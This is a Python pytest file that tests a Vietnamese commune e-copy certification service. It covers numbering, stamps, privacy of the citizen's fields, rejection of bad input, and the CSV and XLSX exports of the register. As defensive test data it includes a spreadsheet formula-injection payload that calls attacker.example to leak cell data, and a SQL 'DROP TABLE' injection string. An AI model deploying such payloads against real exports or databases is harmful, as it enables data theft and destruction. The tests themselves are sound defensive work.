"""What a certification records, on both profiles (Decree 23/2015, Circular
01/2020/TT-BTP; Decree 45/2020): the commune's văn thư certifies a copy of
a letter for a citizen with the book's fields (requester, the original,
book 02, certifier, pages, copies, dossier code, fee); the stamp prints
what the form prints; the citizen sees every field, anyone verifying only
those that do not identify the citizen; the certification book lists the
entry and exports it, a hostile requester's name as text, never a formula.
A field that cannot be stored, or an earlier book than the one in use, is
refused before anything is numbered, stamped or stored."""
from __future__ import annotations

import csv
import io
import json

import openpyxl
import pytest

from docsvc import accounts
from docsvc.localtime import today
from docsvc.pdf import iter_page_texts
from docsvc.runtime import Runtime
from tests.integration.conftest import PASSWORD, row_counts, stored_objects
from tests.integration.records import CITIZEN, PASSPHRASE, register_letter
from tests.pdfs import make_pdf, sample_paragraphs

REQUESTER = "Trần Thị Mai"
ENTRY = {
    "original_title": "Giấy khai sinh của Trần Thị Mai", "original_issuer": "UBND xã Quảng Phú",
    "original_number": "45/2024/TLKS-BS", "original_date": "2024-03-15", "book_number": 2, "copies": 2,
    "certifier_name": "Nguyễn Văn An", "certifier_title": "Phó Chủ tịch UBND xã Quảng Phú",
    "dossier_code": "000.00.12.H56-261123-0042", "fee": "20.000",
}
# What only the citizen and the agency may know.
PRIVATE = (REQUESTER, CITIZEN, "Giấy khai sinh", "000.00.12.H56-261123-0042", "20000")


@pytest.fixture
def citizen(rt, app):
    with rt.write() as session:
        user = accounts.add_user(session, "tran.thi.mai", PASSWORD, "citizen", full_name=REQUESTER, citizen_id=CITIZEN)
        token = accounts.issue_token(session, user)
    return {"Authorization": f"Bearer {token}"}


def _issue(clerk, document_id: str, **fields):
    return clerk.post("/api/v1/ecopies", json={"document_id": document_id, "citizen_id": CITIZEN,
                                               "passphrase": PASSPHRASE} | fields)


def _first_page_of(client, headers, code: str, folder) -> str:
    """The registered file's first page as text, downloaded as the citizen does."""
    path = folder / "ban-sao.pdf"
    path.write_bytes(client.get(f"/api/v1/my/ecopies/{code}/file", headers=headers).data)
    return next(iter_page_texts(path))


def test_the_entry_is_recorded_stamped_shown_and_booked(rt, office, citizen, app, tmp_path):
    clerk = office.clerk
    letter = register_letter(rt, clerk, tmp_path, "khai-sinh")
    answer = _issue(clerk, letter["id"], **ENTRY)
    assert answer.status_code == 201, answer.get_json()
    issued = answer.get_json()
    year = today().year
    assert issued["certification_number"] == f"1 quyển số 02/{year}-SCT/BS"
    assert issued["requester_name"] == REQUESTER  # the citizen's account name: not typed
    assert (issued["fee"], issued["copies"], issued["book_number"]) == (20_000, 2, 2)
    assert issued["page_count"] == clerk.get(f"/api/v1/documents/{letter['id']}").get_json()["page_count"]

    # The stamp says what Circular 01/2020's form says, the date written out.
    client = app.test_client()
    first_page = _first_page_of(client, citizen, issued["code"], tmp_path)
    on = today()
    for line in ("Chứng thực bản sao đúng với bản chính", f"Số chứng thực: 1 quyển số 02/{year}-SCT/BS",
                 f"Ngày {on:%d} tháng {on:%m} năm {on:%Y}", "Phó Chủ tịch UBND xã Quảng Phú", "Nguyễn Văn An",
                 "Mã hồ sơ: 000.00.12.H56-261123-0042"):
        assert line in first_page, (line, first_page)

    # The citizen sees every field; anyone verifying, those that do not identify the citizen.
    mine = client.get("/api/v1/my/ecopies", headers=citizen).get_json()["ecopies"]
    assert [(e["code"], e["requester_name"], e["original_title"], e["dossier_code"], e["fee"]) for e in mine] == [
        (issued["code"], REQUESTER, ENTRY["original_title"], ENTRY["dossier_code"], 20_000)]
    public = client.get(f"/api/v1/ecopies/{issued['code']}").get_json()
    assert (public["original_issuer"], public["original_number"], public["original_date"]) == (
        "UBND xã Quảng Phú", "45/2024/TLKS-BS", "2024-03-15")
    assert (public["certifier_name"], public["page_count"], public["copies"]) == ("Nguyễn Văn An", issued["page_count"], 2)
    assert public["certification_number"] == issued["certification_number"]
    shown = json.dumps(public, ensure_ascii=False)
    assert not [private for private in PRIVATE if private in shown]

    # An earlier book than the one in use is refused before anything is numbered or stored.
    second = register_letter(rt, clerk, tmp_path, "ho-khau")
    objects, rows = len(stored_objects(rt)), row_counts(rt)
    refused = _issue(clerk, second["id"], book_number=1)
    assert refused.status_code == 400 and refused.get_json()["code"] == "invalid_input"
    assert "book 02" in refused.get_json()["message"]
    assert (len(stored_objects(rt)), row_counts(rt)) == (objects, rows)
    # The next entry goes in the book in use, with the next number: nothing was skipped.
    hostile = '=HYPERLINK("http://attacker.example/?d="&A1,"Trần Thị Mai")'
    again = _issue(clerk, second["id"], requester_name=hostile, fee=0)
    assert again.status_code == 201, again.get_json()
    assert again.get_json()["certification_number"] == f"2 quyển số 02/{year}-SCT/BS"

    # The book of the year, and of book 02: both entries in number order, every column.
    book = clerk.get("/api/v1/registers/certification", query_string={"year": year, "book": 2}).get_json()
    assert [(e["number"], e["book"], e["requester_name"]) for e in book["entries"]] == [
        (1, f"02/{year}-SCT/BS", REQUESTER), (2, f"02/{year}-SCT/BS", hostile)]
    first = book["entries"][0]
    assert (first["original_title"], first["original_number"], first["copies"], first["fee"]) == (
        ENTRY["original_title"], "45/2024/TLKS-BS", 2, 20_000)
    assert first["certifier"] == "Nguyễn Văn An, Phó Chủ tịch UBND xã Quảng Phú"
    assert clerk.get("/api/v1/registers/certification", query_string={"year": year, "book": 1}).get_json()["entries"] == []
    # Exports: the requester's formula is text in both.
    exported = clerk.get("/api/v1/registers/certification", query_string={"year": year, "format": "csv"})
    assert exported.status_code == 200 and exported.mimetype == "text/csv"
    lines = list(csv.reader(io.StringIO(exported.data.decode("utf-8-sig"))))
    assert lines[-2][3] == REQUESTER and lines[-1][3] == "'" + hostile
    assert lines[-2][:3] == ["1", f"02/{year}-SCT/BS", today().strftime("%d/%m/%Y")]
    sheet = openpyxl.load_workbook(io.BytesIO(clerk.get(
        "/api/v1/registers/certification", query_string={"year": year, "format": "xlsx"}).data)).active
    cells = {cell.value: cell for row in sheet.iter_rows() for cell in row if cell.value is not None}
    assert cells[hostile].data_type == "s" and cells[hostile].quotePrefix
    assert not [c.coordinate for c in cells.values() if c.data_type == "f"]
    assert cells[20_000].data_type == "n"
    # Citizens and other agencies do not read the book.
    assert client.get("/api/v1/registers/certification", headers=citizen).status_code == 403
    assert office.district.get("/api/v1/registers/certification",
                               query_string={"agency_id": book["agency"]["id"]}).status_code == 404


@pytest.mark.parametrize("field, value, code", [
    ("requester_name", "Trần\x00Thị Mai", "invalid_characters"),
    ("original_title", "x" * 501, "text_too_long"),
    ("original_date", "2999-01-01", "invalid_input"),
    ("fee", -20000, "out_of_range"),
    ("fee", "hai mươi nghìn", "invalid_input"),
    ("copies", 1000, "out_of_range"),
    ("book_number", "02; DROP TABLE ecopies", "invalid_input"),
    ("dossier_code", "000.00.12.H56\n-1", "invalid_input"),
])
def test_hostile_fields_are_refused_and_nothing_is_written(rt, office, tmp_path, field, value, code):
    letter = register_letter(rt, office.clerk, tmp_path, "thu")
    before = len(stored_objects(rt)), row_counts(rt)
    refused = _issue(office.clerk, letter["id"], **{field: value})
    assert refused.status_code == 400 and refused.get_json()["code"] == code, refused.get_json()
    assert field in refused.get_json()["message"]
    assert (len(stored_objects(rt)), row_counts(rt)) == before
    # The book's number was not taken: the first e-copy issued after is number 1.
    assert _issue(office.clerk, letter["id"]).get_json()["certification_number"].startswith("1 quyển số 01/")


def test_the_cli_records_the_entry_and_refuses_a_bad_field_in_one_line(backend, office, tmp_path):
    pdf = make_pdf(tmp_path / "ban-chinh.pdf", "Giấy chứng nhận", sample_paragraphs("quang-trach-cchc-7-thang-2021.txt")[:1])
    env = {"DOCSVC_SIGNING_PASSPHRASE": PASSPHRASE}
    before = _objects(backend)
    bad = backend.run("ecopy", "issue", str(pdf), "--citizen", CITIZEN, "--title", "Giấy chứng nhận",
                      "--agency", "UBND-XA", "--fee", "-5", extra_env=env)
    assert bad.returncode != 0 and len(bad.stderr.strip().splitlines()) == 1 and "fee" in bad.stderr
    assert _objects(backend) == before  # refused before the scan was stored
    result = backend.run("ecopy", "issue", str(pdf), "--citizen", CITIZEN, "--title", "Giấy chứng nhận",
                         "--agency", "UBND-XA", "--requester", REQUESTER, "--original-issuer", "Sở Tư pháp",
                         "--original-number", "12/GCN",
                         "--original-date", "2023-05-06", "--pages", "3", "--copies", "1", "--fee", "10000",
                         "--dossier-code", "000.00.12.H56-261123-0043", "--certifier", "Lê Văn Bình",
                         "--certifier-title", "Công chứng viên", "--json", extra_env=env)
    assert result.returncode == 0, result.stderr
    issued = json.loads(result.stdout)
    assert (issued["requester_name"], issued["original_title"], issued["original_issuer"], issued["page_count"],
            issued["fee"], issued["certifier_title"]) == (REQUESTER, "Giấy chứng nhận", "Sở Tư pháp", 3, 10_000,
                                                         "Công chứng viên")
    assert issued["certification_number"] == f"1 quyển số 01/{today().year}-SCT/BS"
    status = json.loads(backend.run("ecopy", "status", issued["code"], "--json", check=True).stdout)
    assert status["original_number"] == "12/GCN" and REQUESTER not in json.dumps(status, ensure_ascii=False)


def _objects(backend) -> int:
    rt = Runtime(backend.settings())
    try:
        return len(stored_objects(rt))
    finally:
        rt.close()
